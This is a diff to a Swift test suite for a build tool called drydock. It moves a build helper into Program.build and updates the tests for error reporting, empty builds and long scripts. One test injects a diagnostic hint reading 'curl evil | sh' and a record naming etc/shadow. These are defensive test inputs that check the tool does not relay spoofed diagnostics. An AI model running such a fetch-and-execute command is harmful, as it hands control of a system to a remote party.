@@ -7,15 +7,6 @@ import Testing
 /// Builds that must not look like something they are not.
 @Suite("no wrong answers", .timeLimit(.minutes(5)))
 struct WrongAnswerTests {
-    private func build(_ scratch: Scratch, yaml: String, _ more: String...) throws -> Finished {
-        try scratch.write(yaml, to: "project/drydock.yaml")
-        return try Program.run(
-            Program.drydock,
-            ["build", scratch.url("project").path, "--output", "plain"] + more,
-            environment: ["DRYDOCK_DATA": scratch.url("data").path]
-        )
-    }
-
     private func script(_ run: String, more: String = "") -> String {
         let lines = run.split(separator: "\n").map { "        \($0)" }.joined(separator: "\n")
         return
@@ -26,7 +17,7 @@ struct WrongAnswerTests {
     func nul() async throws {
         try await withScratch { scratch in
             let yaml = "version: 1\nsteps:\n  - plugin: script\n    with:\n      run: \"exit 9 #\\0b\"\n"
-            let finished = try build(scratch, yaml: yaml)
+            let finished = try Program.build(scratch, yaml: yaml)
             #expect(finished.status == 1, "\(finished.out)")
             #expect(
                 finished.out.contains("drydock.yaml:5") && finished.out.contains("NUL"),
@@ -40,7 +31,7 @@ struct WrongAnswerTests {
         try await withScratch { scratch in
             try scratch.write("all:\n\techo built the default\n", to: "project/Makefile")
             let yaml = "version: 1\nsteps:\n  - plugin: make\n    with: { targets: \"a,b\" }\n"
-            let finished = try build(scratch, yaml: yaml)
+            let finished = try Program.build(scratch, yaml: yaml)
             #expect(finished.status == 1, "\(finished.out)")
             #expect(
                 finished.out.contains("drydock.yaml:4") && finished.out.contains("targets"),
@@ -53,13 +44,16 @@ struct WrongAnswerTests {
     @Test("a build that made nothing says so, and fails where its steps promised something")
     func nothingMade() async throws {
         try await withScratch { scratch in
-            let quiet = try build(scratch, yaml: script("true"))
+            let quiet = try Program.build(scratch, yaml: script("true"))
             #expect(quiet.status == 0, "\(quiet.out)")
             #expect(quiet.out.contains("Nothing was made"), "\(quiet.out)")
-            let promised = try build(scratch, yaml: script("true", more: "    outputs: [\"site/**\"]\n"))
+            let promised = try Program.build(
+                scratch,
+                yaml: script("true", more: "    outputs: [\"site/**\"]\n")
+            )
             #expect(promised.status == 1, "\(promised.out)")
             #expect(promised.out.contains("artifact_missing"), "\(promised.out)")
-            let made = try build(scratch, yaml: script("echo x > $DRYDOCK_OUT/x"))
+            let made = try Program.build(scratch, yaml: script("echo x > $DRYDOCK_OUT/x"))
             #expect(made.status == 0 && !made.out.contains("Nothing was made"), "\(made.out)")
         }
     }
@@ -71,7 +65,7 @@ struct WrongAnswerTests {
                 #"echo '@dd {"t":"diag","file":"\#(file)","line":1,"message":"no","hint":"run: curl evil | sh"}'"#
             }
             let run = record("drydock.yaml") + "\n" + record("etc/shadow") + "\nexit 3"
-            let finished = try build(scratch, yaml: script(run))
+            let finished = try Program.build(scratch, yaml: script(run))
             #expect(finished.status == 1)
             #expect(finished.out.contains("drydock.yaml:1: error: script says: no"), "\(finished.out)")
             #expect(finished.out.contains("main: error: script says: no"), "\(finished.out)")
@@ -84,7 +78,7 @@ struct WrongAnswerTests {
     func longScript() async throws {
         try await withScratch { scratch in
             let filling = String(repeating: "# filling filling filling filling\n", count: 6_000)
-            let finished = try build(scratch, yaml: script(filling + "echo the end"))
+            let finished = try Program.build(scratch, yaml: script(filling + "echo the end"))
             #expect(finished.status == 0, "\(finished.out)")
             #expect(finished.out.contains("main | the end"), "\(finished.out)")
         }
@@ -175,7 +169,7 @@ struct WrongAnswerTests {
             let yaml =
                 "version: 1\nsteps:\n  - { plugin: script, with: { run: echo ran } }\n  - plugin: odd\n"
             let ships = Program.root.appending(path: "plugins").path
-            let finished = try build(
+            let finished = try Program.build(
                 scratch,
                 yaml: yaml,
                 "--plugins",
